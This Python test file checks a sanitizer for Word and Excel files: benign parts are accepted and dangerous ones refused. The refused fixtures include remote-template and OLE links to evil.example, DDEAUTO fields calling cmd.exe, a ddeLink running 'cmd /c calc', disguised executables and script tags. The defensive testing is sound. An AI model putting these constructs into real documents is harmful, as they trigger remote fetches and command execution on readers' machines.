"""Each part of a Word or Excel file is what its content says: what the programs put there is taken, and
what would run is not."""

import gzip
import struct
from uuid import UUID

import pytest

from sharing.vault.codes import Kind, Trouble
from sharing.vault.confined.found import Found
from sharing.vault.confined.recognise import recognise
from tests.attached import archive, compound, email, excel, office, old_word, pdf, picture, word

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
    ' Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}" TargetMode="External"/></Relationships>'
)
PROGRAM = b"MZ\x90\0" + b"\0" * 60
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
ENHANCED = b"\x01\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 40
PRINTER = "Printer".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<4H", 0x401, 6, 220, 9)
PRINTER = PRINTER.ljust(229, b"\x07")
KEY = "{4B1F31F3-3A5B-4A3B-9A3C-2B3D5C6E7F80}"
FONT_LIST = (
    f"<w:fonts xmlns:w='w' xmlns:r='r'><w:embedRegular r:id='1' w:fontKey='{KEY}'/></w:fonts>"
)


def listed(name="word/fonts/font1.odttf", *, font=None, key=KEY, **more):
    """Return a letter that lists this font as its own."""
    relation = RELATION.replace(' TargetMode="External"', "").format("font", "fonts/font1.odttf")
    return word(
        {
            name: hidden(FONT) if font is None else font,
            "word/fontTable.xml": FONT_LIST.replace(KEY, key),
            "word/_rels/fontTable.xml.rels": relation.replace('"r1"', '"1"'),
        }
        | more
    )


def hidden(font):
    key = UUID(KEY).bytes[::-1] * 2
    return bytes(a ^ b for a, b in zip(font, key, strict=False)) + font[32:]


FONT = struct.pack(">4sH6x4s4xII", b"\0\1\0\0", 1, b"head", 28, 20) + b"font" * 5


def fields(*marks):
    """Return a letter with fields: b(egin), s(eparate), e(nd), or what an instruction says."""
    kinds = {"b": "begin", "s": "separate", "e": "end"}
    said = "".join(
        f"<w:r><w:fldChar w:fldCharType='{kinds[one]}'/></w:r>"
        if one in kinds
        else f"<w:r><w:instrText>{one}</w:instrText><w:t>x</w:t></w:r>"
        for one in marks
    )
    return letter(f"<w:p>{said}</w:p>")


def letter(said):
    marks = f"{XML}<w:document xmlns:w='w'><w:body>{said}</w:body></w:document>"
    return word({"word/document.xml": marks})


def related(kind, target):
    return word({"word/_rels/settings.xml.rels": RELATION.format(kind, target)})


def table(said):
    return excel(
        {"xl/externalLinks/externalLink1.xml": f"{XML}<externalLink>{said}</externalLink>"}
    )


TAKEN = {
    "pictures": word(
        {
            f"word/media/image.{form}": picture(form)
            for form in ("PNG", "JPEG", "GIF", "TIFF", "BMP")
        }
    ),
    "drawings": word(
        {
            "word/media/image1.emf": ENHANCED,
            "word/media/image2.emz": gzip.compress(ENHANCED),
            "docProps/thumbnail.wmf": b"\xd7\xcd\xc6\x9a" + b"\0" * 40,
            "word/media/image3.svg": DRAWING.format("<path d='M0 0'/>"),
        }
    ),
    "fonts": listed(),
    "a font as it is": word({"word/fonts/font1.ttf": FONT}),
    "a printer": excel({"xl/printerSettings/printerSettings1.bin": PRINTER}),
    "a printer of a Mac": excel(
        {
            "xl/printerSettings/printerSettings1.bin": XML + '<!DOCTYPE plist PUBLIC "-//Apple//DTD'
            ' PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>'
        }
    ),
    "notes": excel({"xl/customProperty1.bin": "Budget 7\0".encode("utf-16-le")}),
    "notes of Google": excel({"xl/metadata": b"\0\xc5\x16\xda\x01\x02"}),
    "what was taken out": word({"[trash]/0000.dat": b"\xff" * 4 + bytes(90)}),
    "what others keep": word({"customXml/item1.xml": f"{XML}<b:Sources xmlns:b='b' Name='2026'/>"}),
    "in two bytes": word({"customXml/item1.xml": f"{XML}<a/>".replace("8", "16").encode("utf-16")}),
    "a drawing of old": word({"word/vmlDrawing1.vml": "<xml><v:shadow on='t'><br></xml>"}),
    "a text": word({"word/afchunk.txt": "Two calls."}),
    "a page": word({"word/afchunk.htm": "<!DOCTYPE html><html><p>Two calls<br></html>"}),
    "a saved page": word(
        {"word/afchunk.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<p>"}
    ),
    "a saved page of many": word({"word/a.mht": email(html="<html><p>Two</html>").as_bytes()}),
    "an old table": word({"word/objects/old.bin": old_word()}),
    "a template": related("attachedTemplate", "file:///C:\\Users\\jo\\Letter%20to.dotx"),
    "a template beside it": related("attachedTemplate", "Normal.dotm"),
    "a template of a Mac": related("attachedTemplate", "file:///Users/jo/Letter.dotx"),
    "a link": related("hyperlink", "https://police.example/"),
    "a link to another program's": related("hyperlink", "tel:+441632960001"),
    "a picture of the writer's computer": related("image", "file:///C:/Users/jo/logo.png"),
    "numbers of pages": fields("b", " PAGE ", "s", "e"),
    "fields in fields": fields("b", " IF ", "b", " MERGEFIELD a ", "s", "e", "= 1", "s", "e"),
    "sums": fields("b", "=", "b", "PAGE", "e", "-1", "s", "b", " DATE ", "e", "e"),
    "never closed": fields("b", " DATE "),
    "closed twice": fields("b", " DATE ", "e", "e", " DATE "),
    "an object": letter("<w:object w:on='1'/><w:fldSimple w:instr=' DATE '/>"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_what_the_programs_put_there_is_taken(name):
    assert recognise(TAKEN[name]) in (Kind.WORD, Kind.EXCEL)


MACROS = word(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
REFUSED = {
    Trouble.HOLDS_FILES: {
        "a program": word({"word/payload/setup.exe": PROGRAM}),
        "a program as a picture": word({"word/media/image1.png": PROGRAM}),
        "a program as marks": word({"word/theme/theme1.xml": PROGRAM}),
        "a program as a font": word({"word/fonts/font1.odttf": PROGRAM}),
        "a program as a note": excel({"xl/customProperty1.bin": PROGRAM}),
        "a program as Google's": excel({"xl/metadata": PROGRAM}),
        "a program for a printer": excel({"xl/printerSettings/p.bin": PRINTER + PROGRAM}),
        "a packed program": word({"word/media/image1.emz": gzip.compress(ENHANCED) + PROGRAM}),
        "a program that was packed": word({"word/media/image1.emz": gzip.compress(PROGRAM)}),
        "an archive": word({"word/objects/a.zip": archive({"setup.exe": PROGRAM})}),
        "slides": word({"word/objects/a.bin": office("presentationml.presentation")}),
        "a package": word({"word/objects/a.bin": compound({"\x01Ole10Native": PROGRAM})}),
        "a PDF": word({"word/media/image1.pdf": pdf()}),
        "rich text": word({"word/afchunk.rtf": r"{\rtf1 \objdata Hello}"}),
        "a page behind text": word({"word/afchunk.htm": "Hello <script>alert(1)</script>"}),
        "no saved page": word({"word/a.mht": b"MIME-Version: 1.0\n\n" + PROGRAM}),
        "headers of nothing": word({"word/a.mht": b"A: b\n\n" + PROGRAM}),
        "a file in a saved page": word(
            {"word/a.mht": email().as_bytes().replace(b"text/plain", b"application/x-exe")}
        ),
    },
    Trouble.MACROS: {
        "a letter with macros": word({"word/objects/inner.docx": MACROS}),
        "script in a drawing": word({"word/media/a.svg": DRAWING.format("<script/>")}),
        "a drawing that runs": word({"word/media/a.svg": DRAWING.format("<g onload='x()'/>")}),
        "script in a page": word({"word/afchunk.htm": "<p>Hello<br><SCRIPT>alert(1)</p>"}),
        "script in a saved page": word(
            {"word/a.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>x()</script>"}
        ),
        "script in marks": word({"customXml/item1.xml": f"{XML}<x:script xmlns:x='x'/>"}),
    },
    Trouble.TWO_IN_ONE: {
        "a picture and a program": word({"word/media/a.png": picture() + archive({"a": PROGRAM})}),
        "a picture and others": word({"word/media/a.bmp": picture("BMP") + archive({"a": "b"})}),
        "a text and others": word({"word/a.txt": b"Hello" + archive({"a": "b"})}),
    },
    Trouble.FETCHES: {
        "a template": related("attachedTemplate", "http://evil.example/t.dotm"),
        "a template of a server": related("attachedTemplate", "\\\\evil.example\\t.dotm"),
        "another": related("attachedTemplate", "file://///evil.example/t.dotm"),
        "a third": related("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotm"),
        "a fourth": related("attachedTemplate", "file://evil.example/t.dotm"),
        "an object": related("oleObject", "https://evil.example/t!"),
        "a frame": related("frame", "https://evil.example/"),
        "a field": fields("b", " DDE", "AUTO c:\\\\cmd.exe", "s", "e"),
        "a field never closed": fields("b", '"DDE" a b'),
        "a field alone": fields("DDEAUTO c:\\\\cmd.exe"),
        "a field in what another says": fields("b", " DATE ", "s", " DDE a b", "e"),
        "a simple field": letter("<w:fldSimple w:instr='&#68;DEAUTO c'/>"),
        "put together": fields("b", " ", "b", "QUOTE 68 68 69", "s", "e", "s", "e"),
        "half of it": fields("b", " DD", "b", "QUOTE 69", "s", "e", " x", "s", "e"),
        "in two bytes": word(
            {"word/document.xml": f"{XML.replace('UTF-8', 'UTF-16')}<ddeLink/>".encode("utf-16-le")}
        ),
        "a table's": table("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"),
        "a table's object": table("<oleLink/>"),
    },
    Trouble.UNREADABLE: {
        "what stands for more": word({"word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "written as nobody writes": word(
            {"word/document.xml": "<?xml version='1.0' encoding='cp037'?><a/>"}
        ),
        "not well formed": word({"word/document.xml": "<w:p><w:instrText>DDEAUTO c</w:p>"}),
        "relations that break": word({"word/_rels/a.rels": "<r><a></r>"}),
    },
}


@pytest.mark.parametrize(
    ("trouble", "name"), [(trouble, name) for trouble in REFUSED for name in REFUSED[trouble]]
)
def test_what_would_run_or_hide_is_not(trouble, name):
    with pytest.raises(Found) as found:
        recognise(REFUSED[trouble][name])
    assert found.value.trouble is trouble
